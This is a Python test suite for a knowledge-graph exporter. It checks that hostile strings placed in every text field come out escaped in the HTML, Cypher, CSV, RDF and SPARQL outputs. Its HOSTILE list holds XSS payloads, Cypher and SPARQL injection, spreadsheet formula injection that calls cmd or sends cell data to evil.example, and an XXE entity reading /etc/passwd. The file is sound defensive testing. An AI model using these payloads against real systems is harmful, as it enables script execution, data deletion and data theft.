"""Hostile text in every text field, through every output: nothing runs, nothing is injected, nothing is lost.

A corpus of hostile strings (HTML and script, SVG handlers, javascript: URLs, Cypher and SPARQL fragments,
spreadsheet formulas, Turtle and XML metacharacters, right-to-left overrides, a 100,000-character label)
is placed in every text field kg reads: each string is the label, the alias and the note of a person and of
an organisation, and the role, the note and the evidence quote of the statement between them (so the
article body holds every string too); the article's title, author and publisher are hostile as well.

Then, from one build of that data:
- every export parses in a reader other than its writer and gives back exactly what was built (the checks
  of tests/test_fuzz_build.py), and Debian's rapper parses the Turtle and N-Triples;
- the HTML page, in real headless Chromium with the network cut off, raises no dialog, makes no request,
  logs no console error (the page's Content-Security-Policy would log one for any blocked inline handler),
  sets none of the payloads' globals, and shows every string as text in the side panel and the tooltip;
- import.cypher, run statement by statement in the ladybug graph database, creates exactly the intended
  nodes and relationships, with every string back exactly;
- neo4j/*.csv keeps every value exactly (neo4j-admin needs that), and the spreadsheet tables of
  kg.export.sheets neutralise every cell a spreadsheet would read as a formula.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pyoxigraph as ox
import pytest
import yaml
from lxml import html as lxml_html

from kg.export import sheets
from kg.export.projection import QUOTE_JOIN, split_list
from kg.pipeline import run as pipeline
from tests.browser import open_page
from tests.conftest import MINI, SPREADSHEET_FORMULA_STARTS, need_tool, run_kg
from tests.test_fuzz_build import check_build
from tests.test_neo4j import load_cypher, rows

LONG = "A" * 50_000 + "<script>window.__pwned='long'</script>" + "B" * 49_962
HOSTILE = [
    "<script>window.__pwned='script';alert(1)</script>",
    "<img src=x onerror=\"window.__pwned='img';alert(1)\">",
    "<svg onload=\"window.__pwned='svg'\"><circle r=1 /></svg>",
    "<svg><script>window.__pwned='svg-script'</script></svg>",
    "javascript:window.__pwned='js-url'",
    "<a href=\"javascript:window.__pwned='href'\">click</a>",
    '"><iframe src="javascript:window.__pwned=\'iframe\'"></iframe>',
    "</script><script>window.__pwned='close'</script><!--",
    '<img src="https://evil.example/beacon.png">',
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=2}",
    "'}) MATCH (n) DETACH DELETE n //",
    "\\'}) CREATE (:Pwned {by: 'cypher'}) //",
    "`}) CREATE (x:Pwned) RETURN x //",
    '"} ; DROP ALL ; INSERT DATA { <urn:a> <urn:b> <urn:c> } #',
    '""" ; <urn:x> <urn:y> "z" . @prefix evil: <urn:evil#> .',
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＝1+1 full-width",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; ]]> &amp; &#0;',
    "\\u0022 back\\slash \\n not a newline \\' \\\\",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200fRLM \u200bzero-width",
    "line\u2028separator paragraph\u2029separator",
    "__proto__",
    LONG,
]
# Leading whitespace is stripped from labels, so this one also tests a formula that starts after the strip.
HOSTILE.append("\t=1+1")
TITLE = HOSTILE[0] + " " + HOSTILE[15]
AUTHOR = HOSTILE[1] + " " + HOSTILE[10]
PUBLISHER = HOSTILE[4] + " " + HOSTILE[16]
BASE = "https://kg.example.org/"


def hostile_data(
    directory: Path, texts: list[str] = HOSTILE, front: dict | None = None, more_aliases: tuple[str, ...] = ()
) -> Path:
    """A data directory with every hostile string in every text field: each text a sentence of the article, the
    label, alias and note of a person and a company, and the role, note and evidence of the post between them
    (also tests/test_cypher_databases.py's corpus, with its own texts and front matter)."""
    data = directory / "data"
    (data / "articles").mkdir(parents=True)
    (data / "facts").mkdir()
    if front is None:
        front = {"title": TITLE, "author": AUTHOR, "publisher": PUBLISHER, "date": "2020-04-02", "language": "en"}
    body = "".join(f"Sentence {i}: {text}\n\n" for i, text in enumerate(texts))
    (data / "articles" / "hostile.md").write_text(
        "---\n" + yaml.safe_dump(front, allow_unicode=True, sort_keys=False, width=10**6) + "---\n" + body,
        encoding="utf-8",
    )
    entities, statements = [], []
    for i, text in enumerate(texts):
        for prefix, cls in (("person", "Person"), ("org", "Company")):
            aliases = [text, *more_aliases]
            entities.append({"id": f"{prefix}-{i}", "class": cls, "label": text, "aliases": aliases, "note": text})
        statements.append(
            {
                "subject": f"person-{i}",
                "predicate": "holdsPostIn",
                "object": f"org-{i}",
                "role": text,
                "note": text,
                "evidence": text,
            }
        )
    facts = {"entities": entities, "statements": statements}
    (data / "facts" / "hostile.yaml").write_text(
        yaml.safe_dump(facts, allow_unicode=True, sort_keys=False, width=10**6), encoding="utf-8"
    )
    return data


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[pipeline.Build, Path]:
    directory = tmp_path_factory.mktemp("hostile")
    build = pipeline.load(hostile_data(directory))
    out = directory / "build"
    pipeline.write(build, out)
    return build, out


def test_the_corpus_reached_every_field(hostile) -> None:
    """The loader kept every string (only outer whitespace is trimmed from names): the test is not vacuous."""
    build, _ = hostile
    entities = build.facts.entities
    for i, text in enumerate(HOSTILE):
        for prefix in ("person", "org"):
            entity = entities[f"{prefix}-{i}"]
            assert entity.label == entity.note == entity.aliases[0] == text.strip()
    for statement in build.facts.statements:
        i = int(statement.subject.split("-")[1])
        assert statement.role == statement.note == HOSTILE[i].strip()
        assert [e.quote for e in statement.evidence] == [HOSTILE[i]]
    assert build.facts.sources["hostile"].title == TITLE
    assert len(HOSTILE) >= 25 and max(map(len, HOSTILE)) >= 100_000
    print(f"\nhostile strings tried: {len(HOSTILE)}")


def test_every_file_parses_and_round_trips(hostile, tmp_path: Path) -> None:
    build, out = hostile
    copy = tmp_path / "build"
    shutil.copytree(out, copy)  # check_build adds a database directory beside the bundle
    check_build(copy, build)
    rapper = need_tool("rapper")
    for name, syntax in (("kg.ttl", "turtle"), ("kg.nt", "ntriples"), ("kg.trig", "trig"), ("kg.nq", "nquads")):
        result = subprocess.run(
            [rapper, "-q", "-i", syntax, "-c", str(out / name), BASE], capture_output=True, text=True, timeout=120
        )
        assert result.returncode == 0, (name, result.stderr[:500])


# -- the HTML page in Chromium -----------------------------------------------------------------------


def test_html_runs_nothing_and_shows_every_string_as_text(hostile) -> None:
    _, out = hostile
    html = (out / "kg.html").read_text("utf-8")
    assert "<img" not in html and "<svg" not in html and "<iframe" not in html
    scripts = lxml_html.fromstring(html).xpath("//script")
    assert len(scripts) == 3  # the JSON data block, vis-network and the page's own: no injected one
    with open_page(out / "kg.html") as (page, log):
        page.wait_for_selector("body[data-ready='1']", state="attached", timeout=120_000)
        for i, text in enumerate(HOSTILE):
            for prefix in ("person", "org"):
                iri = f"{BASE}{prefix}/{prefix}-{i}" if prefix == "person" else f"{BASE}organisation/org-{i}"
                shown = page.evaluate(
                    """(iri) => {
                        const id = kg.data.nodes.findIndex(n => n.iri === iri);
                        kg.show(id);
                        const panel = document.getElementById('panel');
                        return {
                          h2: panel.querySelector('h2').textContent,
                          meta: [...panel.querySelectorAll('.meta')].map(e => e.textContent),
                          quotes: [...panel.querySelectorAll('blockquote')].map(e => e.textContent),
                          links: [...panel.querySelectorAll('a')].map(e => e.textContent),
                          tags: [...new Set([...panel.querySelectorAll('*')].map(e => e.tagName))].sort(),
                          hrefs: panel.querySelectorAll('[href], [src], [onload], [onerror]').length,
                        };
                    }""",
                    iri,
                )
                label = text.strip()
                assert shown["h2"] == label
                assert f"Also written: {label}" in shown["meta"]
                assert label in shown["meta"]  # the note
                assert f"role: {label}" in shown["meta"]
                assert shown["quotes"] == [text]
                assert shown["links"] == [label]
                assert set(shown["tags"]) <= {"A", "BLOCKQUOTE", "DIV", "H2", "H3", "P", "SPAN"}, shown["tags"]
                assert shown["hrefs"] == 0
        # The search box: a hostile name typed in finds its node and shows it as text.
        page.fill("#search", HOSTILE[1])
        page.press("#search", "Enter")
        assert page.inner_text("#panel h2") == HOSTILE[1]
        # The tooltip vis-network shows on hover is built from DOM nodes with textContent, too.
        point = page.evaluate(
            """() => { const id = kg.data.nodes.findIndex(n => n.iri.endsWith('/person-1'));
                       kg.focus(id); const p = kg.network.getPositions([id])[id];
                       return kg.network.canvasToDOM(p); }"""
        )
        box = page.locator("#graph").bounding_box()
        page.mouse.move(box["x"] + point["x"], box["y"] + point["y"])
        page.wait_for_selector("div.vis-tooltip", state="visible", timeout=10_000)
        tip = page.evaluate(
            "(() => { const t = document.querySelector('div.vis-tooltip');"
            " return [t.textContent, t.querySelectorAll('img, svg, script, iframe, a').length]; })()"
        )
        assert HOSTILE[1] in tip[0] and tip[1] == 0
        assert page.evaluate("window.__pwned") is None
        # No element of the payloads anywhere (the legend's own class swatches are the page's SVGs), and no
        # element carries an event-handler attribute or a javascript: link.
        assert page.evaluate("document.querySelectorAll('img, iframe, svg:not(#legend svg.swatch)').length") == 0
        handlers = page.evaluate(
            """[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
                 .filter(a => a.name.startsWith('on')
                              || (/href|src|action/.test(a.name) && /^\\s*javascript:/i.test(a.value)))
                 .map(a => e.tagName + ' ' + a.name))"""
        )
        assert handlers == []
    assert log.dialogs == [], log.dialogs
    assert log.requests == [], log.requests
    assert log.console_errors == [], log.console_errors
    assert log.page_errors == [], log.page_errors


# -- Cypher and CSV ----------------------------------------------------------------------------------


def test_cypher_import_creates_exactly_the_intended_graph(hostile, tmp_path: Path) -> None:
    build, out = hostile
    view = build.view
    conn, skipped = load_cypher(tmp_path, out / "neo4j")
    assert rows(conn, "MATCH (n) RETURN count(n)") == [[view.number_of_nodes()]]
    got = {
        iri: (label, aliases, note)
        for iri, label, aliases, note in rows(conn, "MATCH (n:Entity) RETURN n.iri, n.label, n.aliases, n.note")
    }
    want = {n: (a["label"], split_list(a["aliases"]) or None, a.get("note")) for n, a in view.nodes(data=True)}
    assert got == want
    facts = sorted(
        (s, o, role, note, evidence)
        for s, o, role, note, evidence in rows(
            conn, "MATCH (s:Entity)-[r:holdsPostIn]->(o:Entity) RETURN s.iri, o.iri, r.role, r.note, r.evidence"
        )
    )
    assert facts == sorted(
        (s, o, split_list(a["role"]), split_list(a["note"]), split_list(a["evidence"], QUOTE_JOIN))
        for s, o, a in view.edges(data=True)
        if a["name"] == "holdsPostIn"
    )
    assert rows(conn, "MATCH ()-[r]->() RETURN count(r)") == [[view.number_of_edges()]]
    tables = sorted(row[1] for row in rows(conn, "CALL show_tables() RETURN *"))
    assert tables == sorted({"Entity", *(k for *_, k in view.edges(keys=True))}), tables
    assert len(skipped) == view.number_of_nodes()  # one label line per node, checked by shape


def test_neo4j_csv_keeps_formulas_exactly(hostile) -> None:
    """neo4j-admin reads values as they are: the bundle must not alter a label that looks like a formula."""
    build, out = hostile
    with open(out / "neo4j" / "nodes.csv", encoding="utf-8", newline="") as handle:
        labels = {row["iri:ID"]: row["label"] for row in csv.DictReader(handle)}
    assert labels[f"{BASE}person/person-15"] == HOSTILE[15]
    assert labels == {n: a["label"] for n, a in build.view.nodes(data=True)}


def _cells(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_spreadsheet_tables_neutralise_formulas(hostile, tmp_path: Path) -> None:
    build, _ = hostile
    sheets.write(build.view, tmp_path / "tables")
    neutralised = 0
    for name in ("entities.csv", "facts.csv"):
        header, *body = _cells(tmp_path / "tables" / name)
        assert body
        for row in body:
            assert len(row) == len(header)
            for cell in row:
                assert not cell.startswith(SPREADSHEET_FORMULA_STARTS), (name, cell[:80])
                neutralised += cell.startswith("'") and cell[1:].startswith(SPREADSHEET_FORMULA_STARTS)
    # Every formula-like label, alias, note, role and quote came out neutralised; stripping the apostrophe
    # gives the value back, so nothing is lost.
    header, *body = _cells(tmp_path / "tables" / "entities.csv")
    by_iri = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    for i, text in enumerate(HOSTILE):
        cell = by_iri[f"{BASE}person/person-{i}"]["label"]
        assert (cell[1:] if text.strip().startswith(SPREADSHEET_FORMULA_STARTS) else cell) == text.strip()
    formulas = sum(text.strip().startswith(SPREADSHEET_FORMULA_STARTS) for text in HOSTILE)
    assert formulas >= 6 and neutralised >= formulas * 6, (formulas, neutralised)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("\uff0dSUM(A1)", "'\uff0dSUM(A1)"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        (-3, -3),
        (2.5, 2.5),
        ("", ""),
    ],
)
def test_neutralise(value: object, cell: object) -> None:
    assert sheets.neutralise(value) == cell


def test_mini_fixture_tables_are_unchanged_text(tmp_path: Path) -> None:
    """Ordinary text passes through untouched; numbers stay numbers."""
    build = pipeline.load(MINI)
    sheets.write(build.view, tmp_path / "t")
    header, *body = _cells(tmp_path / "t" / "entities.csv")
    labels = {row[header.index("label")] for row in body}
    assert "Qinglan Ledger Institute" in labels and not any(label.startswith("'") for label in labels)


# -- kg query --param --------------------------------------------------------------------------------

LABEL_QUERY = """# Entities whose label is exactly the given text
# param name (literal): the label
SELECT ?x WHERE { ?x rdfs:label ?l . FILTER (str(?l) = str(?name)) }
"""


def test_param_values_cannot_change_a_query_shape(hostile) -> None:
    """Each hostile string as a --param value: the query runs as written with the value bound, and answers
    exactly the entities labelled with that text (or the value is refused as a malformed IRI, which is a
    clean UsageError too); the text outside the VALUES block is the query as written."""
    from kg import store as kg_store
    from kg.errors import UsageError

    build, out = hostile
    query = kg_store.parse_query_file(LABEL_QUERY, "label.rq", "label")
    db = kg_store.open_store(out)
    answered = refused = 0
    for text in HOSTILE:
        try:
            term = kg_store.to_term(text, "literal", "name")
            prepared = kg_store.prepare(query, {"name": text}, db)
        except UsageError:
            refused += 1
            assert text.startswith("<") and text.endswith(">"), text[:80]  # read as an <IRI>, and not one
            continue
        # The value travels as one N-Triples term (pyoxigraph's escaping) in a VALUES row; the rest is as written.
        group = LABEL_QUERY.index("{")
        expected = LABEL_QUERY[: group + 1] + f" VALUES (?name) {{ ({term}) }} " + LABEL_QUERY[group + 1 :]
        assert prepared == expected
        got = {row[0].value for row in kg_store.execute(db, prepared, "label.rq").rows}
        want = {n for n, a in build.view.nodes(data=True) if isinstance(term, ox.Literal) and a["label"] == term.value}
        assert got == want, text[:80]
        answered += 1
    bracketed = sum(text.startswith("<") and text.endswith(">") for text in HOSTILE)
    assert refused == bracketed and answered == len(HOSTILE) - bracketed, (answered, refused)


def test_hostile_build_is_byte_identical_across_hash_seeds(tmp_path: Path) -> None:
    """Two real `kg build` processes with different string-hash seeds write the same bytes for hostile text
    (the store, RocksDB files, is not byte-stable by design; the HTML page's layout is checked elsewhere)."""
    data = hostile_data(tmp_path)
    formats = "turtle,trig,ntriples,nquads,jsonld,graphml,neo4j"
    outputs = []
    for seed in ("1", "2"):
        out = tmp_path / f"build-{seed}"
        result = run_kg(
            "build", "--data", str(data), "--out", str(out), "--formats", formats, env={"PYTHONHASHSEED": seed}
        )
        assert result.returncode == 0, result.stderr
        outputs.append({str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()})
    assert outputs[0].keys() == outputs[1].keys() and len(outputs[0]) >= 9
    assert [name for name in outputs[0] if outputs[0][name] != outputs[1][name]] == []
